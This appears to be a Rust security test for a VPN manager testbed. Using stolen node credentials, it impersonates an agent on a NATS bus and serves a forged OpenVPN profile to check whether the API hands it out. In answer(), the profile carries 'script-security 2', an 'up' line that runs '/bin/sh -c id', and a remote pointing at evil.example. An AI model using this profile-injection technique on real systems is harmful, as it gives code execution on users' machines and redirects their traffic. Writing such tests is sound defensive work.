//! Profiles: the thief answers in place of the agent, with a profile that would run a program on the machine of whoever imports it.

use std::{sync::Arc, time::Instant};

use async_nats::{Auth, AuthError, ConnectOptions};
use futures_util::{FutureExt as _, StreamExt as _, future::LocalBoxFuture};
use rustix::process::Signal;
use serde_json::json;
use tokio::task::JoinSet;
use vpnmanager_testbed::stack::Part;

use crate::attack::{
    flood::Offered,
    scene::{STOLEN, Scene},
    size::Size,
};

/// A line that no profile of ours has.
const COMMAND: &str = "up \"/bin/sh -c id\"";

/// Answers each request for a profile while the agent stands still. The checksum in the answer fits it.
pub(in crate::attack) fn forged(scene: &Scene, size: Size) -> LocalBoxFuture<'_, anyhow::Result<Offered>> {
    async move {
        let begun = Instant::now();
        let agent = scene.stack.process(Part::Node(2));
        let stop = |signal| agent.into_iter().for_each(|agent| agent.signal(signal));
        let bus = connect(scene).await?;
        let mut requests = bus.subscribe(format!("vpn.node.{STOLEN}.>")).await?;
        bus.flush().await?;
        stop(Signal::STOP);
        let mut thief = JoinSet::new();
        thief.spawn(async move {
            let mut answered = 0_u64;
            while let Some(request) = requests.next().await {
                if let Some(reply) = request.reply {
                    // A thief who is cut off has nothing to say.
                    let _ = bus.publish(reply, answer().into()).await;
                    let _ = bus.flush().await;
                    answered += 1;
                }
            }
            answered
        });
        let mut offered = Offered::default();
        let own: Vec<_> = scene.own().collect();
        for person in own
            .iter()
            .cycle()
            .take(usize::try_from(size.count(40, 10)).unwrap_or(1))
        {
            let profile = scene
                .stack
                .api()
                .get(&format!("/api/users/{}/profile", person.username))
                .await?;
            offered.count += 1;
            offered.answered += 1;
            offered.refused += u64::from(profile.status >= 400);
            if profile.text.contains(COMMAND) {
                offered
                    .wrong
                    .push(format!("a forged profile was handed out with {}", profile.status));
            }
            if profile.status == 500 {
                offered
                    .wrong
                    .push(format!("a forged profile was answered 500: {}", profile.text));
            }
        }
        stop(Signal::CONT);
        thief.shutdown().await;
        offered.wrong.truncate(3);
        offered.seconds = begun.elapsed().as_secs_f64();
        Ok(offered)
    }
    .boxed_local()
}

async fn connect(scene: &Scene) -> anyhow::Result<async_nats::Client> {
    let key = Arc::new(nkeys::KeyPair::from_seed(&scene.thief.key.seed()?)?);
    let jwt = scene.thief.jwt.clone();
    let options = ConnectOptions::with_auth_callback(move |nonce| {
        let (jwt, key) = (jwt.clone(), Arc::clone(&key));
        async move {
            let mut auth = Auth::new();
            auth.signature = Some(key.sign(&nonce).map_err(AuthError::new)?);
            auth.jwt = Some(jwt);
            Ok(auth)
        }
    });
    let options = options.custom_inbox_prefix(format!("_INBOX.{STOLEN}"));
    Ok(options.connect(scene.stack.state().nats_url()).await?)
}

fn answer() -> String {
    let profile = format!("client\nscript-security 2\n{COMMAND}\nremote evil.example 1194 udp\n");
    let checksum = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, profile.as_bytes());
    let checksum = data_encoding::HEXLOWER.encode(checksum.as_ref());
    json!({ "v": 1, "type": "profile", "profile": profile, "checksum": checksum }).to_string()
}
